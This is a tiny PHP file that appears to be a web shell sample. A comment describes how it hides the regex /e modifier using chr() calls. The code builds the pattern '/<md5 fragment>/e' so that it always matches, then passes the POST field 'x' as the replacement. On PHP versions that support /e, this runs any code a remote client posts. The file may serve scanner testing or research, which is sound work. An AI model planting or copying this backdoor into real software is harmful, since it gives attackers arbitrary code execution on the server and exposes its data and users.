<?php
// The /e modifier is added by chr() pieces around a non-constant body.
$w = substr(md5('k'), 0, 6);
if (isset($_POST['x'])) {
    preg_replace(chr(47) . $w . chr(47) . chr(101), $_POST['x'], $w);
}
